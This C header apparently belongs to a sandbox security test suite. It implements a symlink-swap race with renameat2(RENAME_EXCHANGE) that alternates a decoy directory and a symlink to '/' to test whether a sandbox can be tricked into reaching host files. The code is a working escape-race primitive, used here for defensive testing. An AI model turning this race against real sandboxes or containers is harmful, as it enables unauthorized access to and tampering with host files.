// Check-then-use races with renameat2(RENAME_EXCHANGE): /tmp/race/d is a real directory holding a
// decoy copy of the harness's tree ($T/host/... under d), /tmp/race/l a symlink to "/". A thread
// swaps the two names as fast as it can while another uses d/<T>/host/<file>. A sandbox that
// resolves the path itself and then lets the kernel walk the host path again can be made to
// follow the symlink, which the host kernel reads as the host's "/".
#ifndef OCIB_SECURITY_RACE_H
#define OCIB_SECURITY_RACE_H

#include <linux/fs.h>

#include "probe.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define RACE_SECONDS 2.5

static volatile int race_stop;
static long race_swaps;
static int race_decoy_fd = -1;      // the decoy's host directory, whatever its name is now
static const char* race_decoy_rel;  // "<T without leading />/host"

static void* race_swapper(void* arg) {
  (void)arg;
  while (!race_stop) {
    if (syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/d", AT_FDCWD, "/tmp/race/l", RENAME_EXCHANGE) ==
        0)
      ++race_swaps;
  }
  return NULL;
}

static inline void mkdirs(const char* path) {
  char buf[PATH_MAX];
  snprintf(buf, sizeof buf, "%s", path);
  for (char* p = buf + 1; *p; ++p) {
    if (*p != '/') continue;
    *p = 0;
    mkdir(buf, 0755);
    *p = '/';
  }
  mkdir(buf, 0755);
}

static inline void write_file(const char* path, const char* text, mode_t mode) {
  int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, mode);
  if (fd < 0) return;
  ssize_t w = write(fd, text, strlen(text));
  (void)w;
  close(fd);
}

// Makes /tmp/race/{d,l}; the decoy files say "decoy". Returns the guest path prefix of the
// decoy host dir: /tmp/race/d/<T>/host.
static inline char* race_setup(void) {
  mkdir("/tmp", 01777);
  mkdir("/tmp/race", 0755);
  race_decoy_rel = p_strf("%s/host", T() + 1);
  char* base = p_strf("/tmp/race/d/%s", race_decoy_rel);
  mkdirs(base);
  write_file(p_strf("%s/secret.txt", base), "decoy\n", 0644);
  write_file(p_strf("%s/truncme.txt", base), "decoy\n", 0644);
  write_file(p_strf("%s/deleteme.txt", base), "decoy\n", 0644);
  write_file(p_strf("%s/hostbin", base), "#!/bin/sh\nexit 0\n", 0755);
  unlink("/tmp/race/l");
  ATT(symlink("/", "/tmp/race/l"), "symlink(/tmp/race/l -> /)");
  race_decoy_fd = open("/tmp/race/d", O_PATH | O_DIRECTORY);
  struct stat st;
  p_control(stat(p_strf("%s/secret.txt", base), &st) == 0, "decoy tree made", "%s", p_err(errno));
  return base;
}

static pthread_t race_thread;

static inline void race_begin(void) {
  race_stop = 0;
  race_swaps = 0;
  pthread_create(&race_thread, NULL, race_swapper, NULL);
}

static inline void race_end(const char* what, long tries, long hits) {
  race_stop = 1;
  pthread_join(race_thread, NULL);
  // Put d back as the directory for the next round.
  struct stat st;
  if (lstat("/tmp/race/d", &st) == 0 && S_ISLNK(st.st_mode))
    syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/d", AT_FDCWD, "/tmp/race/l", RENAME_EXCHANGE);
  p_attemptf(hits > 0 ? 0 : -1, "race %s: %ld tries, %ld swaps, %ld host hits", what, tries,
             race_swaps, hits);
  p_control(race_swaps > 10, "the swapper ran", "%ld swaps", race_swaps);
}

#endif
